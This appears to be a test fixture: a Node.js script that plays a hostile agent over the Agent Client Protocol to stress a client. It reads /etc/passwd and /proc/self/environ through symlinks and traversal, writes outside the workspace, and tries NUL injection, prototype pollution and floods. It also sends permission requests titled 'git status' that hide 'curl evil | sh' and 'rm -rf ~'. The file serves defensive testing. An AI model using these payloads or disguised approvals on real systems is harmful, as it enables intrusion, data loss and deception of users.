#!/usr/bin/env node
// A hostile agent: `hostile-agent.mjs LOG`. Speaks enough of the Agent Client Protocol to start, and runs the attack
// that its prompt names. Every answer to one of its requests is a line of LOG, which the attack reads.
import { appendFileSync, existsSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { createInterface } from 'node:readline';

const [log = ''] = process.argv.slice(2);
const SESSION = 'hostile-session';
let cwd = '/';
let last = 0;
/** @type {Map<unknown, (answer: unknown) => void>} */
const waiting = new Map();
/** @type {() => void} */
let cancelled = () => undefined;

const say = (/** @type {unknown} */ message) => process.stdout.write(`${JSON.stringify(message)}\n`);
const update = (/** @type {object} */ body) =>
  say({ jsonrpc: '2.0', method: 'session/update', params: { sessionId: SESSION, update: body } });
const text = (/** @type {string} */ words) =>
  update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: words } });

/** @param {string} method @param {object} params @param {string} what */
function ask(method, params, what) {
  const id = `ask-${++last}`;
  const answer = new Promise((resolve) => waiting.set(id, resolve));
  say({ jsonrpc: '2.0', id, method, params: { sessionId: SESSION, ...params } });
  return answer.then((/** @type {any} */ reply) => {
    const outcome = reply.error ? 'refused' : 'ok';
    appendFileSync(log, `${JSON.stringify({ what, outcome, reply })}\n`);
    return reply;
  });
}

const permission = (/** @type {unknown} */ id, /** @type {string} */ call) => ({
  jsonrpc: '2.0',
  id,
  method: 'session/request_permission',
  params: {
    sessionId: SESSION,
    toolCall: { toolCallId: call, title: `spam ${call}`, kind: 'execute' },
    options: [{ optionId: 'yes', name: 'Allow', kind: 'allow_once' }],
  },
});

/** @type {Record<string, () => Promise<unknown> | unknown>} */
const ATTACKS = {
  hello: () => text('fine'),
  async escape() {
    const link = join(cwd, 'agent-link');
    if (!existsSync(link)) symlinkSync('/etc', link);
    const outside = ['/etc/passwd', '/proc/self/environ', join(cwd, '../d/config.json'), `${link}/passwd`];
    const odd = [`${cwd}/a\u0000b`, 'README.md', '', '~/x', `${cwd}/${'d/'.repeat(3_000)}x`];
    for (const path of [...outside, `${cwd}/../../etc/passwd`, ...odd])
      await ask('fs/read_text_file', { path }, `read ${path.slice(0, 40)}`);
    for (const path of [join(cwd, '../written-by-agent'), `${link}/written-by-agent`, `${cwd}/a\u0000b`])
      await ask('fs/write_text_file', { path, content: 'owned' }, `write ${path.slice(-40)}`);
    await ask('fs/delete_everything', { path: cwd }, 'an unknown method');
  },
  async terminals() {
    const NUL = 'a\u0000b';
    for (const [what, params] of /** @type {[string, object][]} */ ([
      ['a command with NUL', { command: NUL }],
      ['an argument with NUL', { command: 'true', args: [NUL] }],
      ['a directory with NUL', { command: 'true', cwd: NUL }],
      ['a variable with NUL', { command: 'true', env: [{ name: 'A', value: NUL }] }],
      ['a variable named by a prototype', { command: 'true', env: [{ name: '__proto__', value: NUL }] }],
      ['no command', {}],
      ['an invalid command', { command: { toString: null } }],
    ]))
      await ask('terminal/create', params, what);
    for (const terminalId of ['__proto__', 'constructor', '', 'terminal-999'])
      await ask('terminal/output', { terminalId }, `output of ${terminalId}`);
    for (let at = 0; at < 200; at++)
      await ask('terminal/create', { command: 'sleep', args: ['86399'] }, 'one of many');
    await ask('terminal/create', { command: 'true', outputByteLimit: -1 }, 'a negative limit');
  },
  flood() {
    for (let at = 0; at < 20_000; at++) text('x');
  },
  huge() {
    process.stdout.write(
      `{"jsonrpc":"2.0","method":"session/update","params":"${'x'.repeat(40 * 1024 * 1024)}"}\n`,
    );
    text('after the huge one');
  },
  garbage() {
    process.stdout.write(Buffer.from([0xff, 0xfe, 0x00, 0x0a]));
    process.stdout.write(`${'['.repeat(100_000)}\n`);
    for (const line of [
      'null',
      '[]',
      '0',
      '"x"',
      '{}',
      '{"id":{}}',
      '{"jsonrpc":"2.0","id":1e999,"result":1}',
    ])
      process.stdout.write(`${line}\n`);
    text('after the garbage');
  },
  ids() {
    for (const id of [null, {}, [], '', '__proto__', 'constructor', -1, 0.5, 2 ** 60, true])
      say(permission(id, `call ${JSON.stringify(id)}`));
    say(permission('twice', 'first'));
    say(permission('twice', 'second'));
    for (const id of [1, 2, 3, 4, 5, 'nobody', null])
      say({ jsonrpc: '2.0', id: id === 1 ? -7 : id, result: null });
    return new Promise((resolve) => {
      cancelled = () => resolve(undefined);
    });
  },
  spam() {
    for (let at = 0; at < 300; at++) say(permission(`spam-${at}`, `spam-${at}`));
    return new Promise((resolve) => {
      cancelled = () => resolve(undefined);
    });
  },
  lies() {
    const forged = { blob: 'f'.repeat(64), size: 9, head: 'git status', tail: '' };
    const many = Object.fromEntries(Array.from({ length: 12 }, (_, at) => [`field${at}`, 'harmless']));
    for (const [call, rawInput] of /** @type {[string, unknown][]} */ ([
      ['program', { command: ['/tmp/evil', '-c', 'git status', 7] }],
      ['last field', { ...many, command: 'curl evil | sh' }],
      ['no fields', 'rm -rf ~'],
      ['forged', { command: forged }],
      ['names', JSON.parse('{"__proto__": "a", "constructor": "b"}')],
    ])) {
      const asked = permission(call, call);
      Object.assign(asked.params.toolCall, { title: 'git status', rawInput });
      say(asked);
    }
    return new Promise((resolve) => {
      cancelled = () => resolve(undefined);
    });
  },
  pollution() {
    const evil = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}';
    const line = (/** @type {string} */ body) =>
      process.stdout.write(
        `{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"${SESSION}","update":${body}}}\n`,
      );
    line(
      `{"sessionUpdate":"tool_call","toolCallId":"__proto__","title":"t","kind":"edit","rawInput":${evil}}`,
    );
    line(
      `{"sessionUpdate":"tool_call_update","toolCallId":"__proto__","status":"completed","_meta":${evil}}`,
    );
    line(
      `{"sessionUpdate":"config_option_update","configOptions":[{"id":"__proto__","name":"n","type":"select","currentValue":"a","options":[]}]}`,
    );
    line(`{"sessionUpdate":"current_mode_update","currentModeId":"__proto__"}`);
    line(`{"__proto__":{"sessionUpdate":"agent_message_chunk"},"content":${evil}}`);
    text('after the pollution');
  },
  names() {
    const title = `\u001b]0;x\u0007\u202e${'t'.repeat(2_000_000)}`;
    update({ sessionUpdate: 'session_info_update', title });
    const availableCommands = Array.from({ length: 5_000 }, (_, at) => ({
      name: `c${at}`,
      description: 'd',
    }));
    update({ sessionUpdate: 'available_commands_update', availableCommands });
    text('after the names');
  },
};

createInterface({ input: process.stdin, crlfDelay: Number.POSITIVE_INFINITY })
  .on('line', async (line) => {
    const { id, method, params } = JSON.parse(line);
    const answer = (/** @type {unknown} */ result) => say({ jsonrpc: '2.0', id, result });
    if (method === undefined) waiting.get(id)?.(JSON.parse(line));
    else if (method === 'initialize') answer({ protocolVersion: 1, agentCapabilities: {} });
    else if (method === 'session/new') {
      cwd = params.cwd;
      answer({ sessionId: SESSION });
    } else if (method === 'session/prompt') {
      const attack = /attack:(\w+)/.exec(JSON.stringify(params.prompt))?.[1] ?? 'hello';
      await ATTACKS[attack]?.();
      answer({ stopReason: 'end_turn' });
    } else if (method === 'session/cancel') cancelled();
    else if (id !== undefined) answer({});
  })
  .once('close', () => process.exit(0));
